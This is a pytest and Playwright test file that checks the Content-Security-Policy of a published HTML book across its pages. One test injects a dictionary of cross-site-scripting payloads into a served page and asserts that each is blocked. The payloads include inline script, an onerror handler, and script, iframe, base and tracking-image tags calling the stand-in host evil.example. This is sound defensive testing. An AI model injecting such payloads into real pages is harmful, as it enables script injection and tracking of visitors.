"""The Content-Security-Policy: every page keeps to it in a real browser, and what does not belong to the book does not run."""

import re
from urllib.parse import urlsplit

import pytest
from bookpages import documents, until
from gba_book.publish import policy as security
from visits import DESK, LISTEN, scroll_through

PAGES = [*(f"{document}.html" for document in documents()), "search.html?q=Shenzhen", "404.html"]


def visited(browser, url, **options):
    """A page with a record of complaints, of its own and of the policy."""
    page = browser.new_context(viewport=DESK, **options).new_page()
    page.asked, page.complaints = [], []
    page.on("request", lambda request: page.asked.append(request.url))
    page.on("console", lambda message: page.complaints.append(message.text) if message.type == "error" else None)
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    page.add_init_script(LISTEN)
    page.goto(url, wait_until="load")
    return page


#: From a server, test_pages.py visits the chapters.
WAYS = [*((address, "folder") for address in PAGES), *((address, "server") for address in PAGES[-2:])]


@pytest.mark.parametrize(("address", "way"), WAYS)
def test_pages_keep_to_their_policy(browser, book, site, address, way):
    """From a server and opened from disk: every chart turns live, nothing is blocked, and from disk nothing is asked for that is not a file."""
    path, _, query = address.partition("?")
    page = visited(browser, f"{site}/{address}" if way == "server" else (book / path).as_uri() + (f"?{query}" if query else ""), color_scheme="light")
    assert page.get_attribute("meta[http-equiv=Content-Security-Policy]", "content").startswith("default-src 'none'")
    scroll_through(page)
    assert set(page.evaluate("[...document.querySelectorAll('figure.exhibit')].map((figure) => figure.dataset.live)")) <= {"true"}
    shown = page.evaluate("getComputedStyle(document.body).backgroundColor")
    page.emulate_media(color_scheme="dark")
    until(page, "(light) => getComputedStyle(document.body).backgroundColor !== light", arg=shown)
    if page.locator(".theme-switch-button:visible").count():
        page.locator(".theme-switch-button:visible").first.click()
    for mark in page.locator("figure.exhibit .exhibit-live svg path").all()[:3]:
        mark.dispatch_event("mousemove")
    assert page.evaluate("window.blocked") == []
    assert page.complaints == []
    assert {urlsplit(url).scheme for url in page.asked} <= ({"http", "data"} if way == "server" else {"file", "data"})
    page.context.close()


ATTACKS = {
    "script": "<script>window.hacked = 1</script>",
    "handler": '<img src="data:image/gif;base64,AA" onerror="window.hacked = 1">',
    "other host": '<script src="https://evil.example/x.js"></script>',
    "data script": '<script src="data:text/javascript,window.hacked=1"></script>',
    "base": '<base href="https://evil.example/">',
    "style": "<p style='position:fixed'>x</p>",
    "picture": '<img src="https://evil.example/spy.gif">',
    "frame": '<iframe src="https://evil.example/"></iframe>',
    "old plugin": '<object data="https://evil.example/x"></object>',
}


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_is_slipped_into_a_page_is_blocked(browser, site, attack):
    """The page as served, with something in it that is not the book's."""
    page = browser.new_context().new_page()
    reached = []
    page.route("https://evil.example/**", lambda route: (reached.append(route.request.url), route.abort()))
    page.add_init_script(LISTEN)

    def slip_in(route):
        answer = route.fetch()
        route.fulfill(response=answer, body=answer.text().replace('<article class="bd-article">', f'<article class="bd-article">{ATTACKS[attack]}'))

    page.route(f"**/{documents()[0]}.html", slip_in)
    page.goto(f"{site}/{documents()[0]}.html")
    page.wait_for_timeout(300)
    assert page.locator("article.bd-article > *").first.evaluate("(element) => element.tagName") in ("SCRIPT", "IMG", "BASE", "P", "IFRAME", "OBJECT")
    assert page.evaluate("window.hacked") is None
    assert page.evaluate("window.blocked.length") >= 1
    assert not reached
    page.context.close()


def test_strings_are_not_run_as_script(browser, site):
    page = visited(browser, f"{site}/{documents()[0]}.html")
    # Later, because what the test itself evaluates is exempt from the policy.
    page.evaluate("void setTimeout(() => { try { window.tried = new Function('return \"ran\"')(); } catch (error) { window.tried = error.name; } })")
    until(page, "window.tried")
    assert page.evaluate("window.tried") == "EvalError"
    page.context.close()


@pytest.mark.parametrize("address", [*(page.split("?")[0] for page in PAGES), "index.html"])
def test_the_policy_names_nothing_loose(book, address):
    page = (book / address).read_text(encoding="utf-8")
    [said] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    rules = {rule.split()[0]: rule.split()[1:] for rule in said.split("; ")}
    assert rules["default-src"] == rules["base-uri"] == ["'none'"]
    assert len(rules["script-src"]) == 3
    for sources in rules.values():
        assert all(re.fullmatch(r"'none'|'self'|file:|data:|'sha256-[\w+/]{43}='", source) for source in sources)
    assert "data:" not in rules["script-src"]
    # The policy holds for what comes after it.
    assert page.index("Content-Security-Policy") < min(page.find(tag) for tag in ("<script", "<link", "<style") if tag in page)
    assert not re.search(r'<(?!script)[^<>]*\sstyle="', re.sub(r"(?s)<script.*?</script>", "", page))


def test_hosts_get_the_same_policy_with_frames_forbidden(book):
    lines = dict(line.strip().split(": ", 1) for line in (book / "_headers").read_text(encoding="utf-8").splitlines()[1:])
    assert "frame-ancestors 'none'" in lines["Content-Security-Policy"]
    assert "file:" not in lines["Content-Security-Policy"]
    assert "unsafe" not in lines["Content-Security-Policy"]
    for page in book.rglob("*.html"):
        [said] = re.findall(r'Content-Security-Policy" content="([^"]*)"', page.read_text(encoding="utf-8"))
        missing = set(said.replace(" file:", "").replace(";", "").split()) - set(lines["Content-Security-Policy"].replace(";", "").split())
        assert not missing, f"{page.name}: the header forbids {missing}, which the page needs"


@pytest.mark.parametrize(
    ("page", "word"),
    [
        ("<script>alert(1)</script>", "script in the page: alert(1)"),
        ('<script type="module">x()</script>', "script in the page: x()"),
        ('<script src="https://cdn.example/x.js"></script>', "cdn.example"),
        ('<script src="//cdn.example/x.js"></script>', "cdn.example"),
        ('<p title="a > b" onclick="x()">', "onclick"),
        ("<a href='javascript:x()'>", "href"),
    ],
)
def test_what_will_be_blocked_is_told(page, word):
    [told] = security.judged(page)[1]
    assert word in told


ALLOWED = [
    '<script type="application/json">{"onclick": 1}</script>',
    '<script src="../_static/x.js"></script>',
    '<p title="on time = money">one = on</p>',
    '<a href="x?on=1">',
]


@pytest.mark.parametrize("page", ALLOWED)
def test_what_is_allowed_is_not_told(page):
    assert security.judged(page) == (set(), [])


def test_attributes_of_style_become_classes_that_look_the_same(browser):
    """An output of somebody's own, such as a table with colours, keeps its look under the policy."""
    body = '<table><tr style="text-align: right;"><td class="a" style="color: rgb(1, 2, 3); font-family: &quot;X&quot;">1</td></tr></table>'
    mended = security.without_inline_style(body)
    assert "style=" not in mended
    styles, blocked = security.judged(mended)
    assert not blocked
    page = browser.new_page()
    page.set_content(f'<meta http-equiv="Content-Security-Policy" content="{security.policy(styles)}">{mended}')
    assert page.evaluate("getComputedStyle(document.querySelector('td')).color") == "rgb(1, 2, 3)"
    assert "X" in page.evaluate("getComputedStyle(document.querySelector('td')).fontFamily")
    page.close()
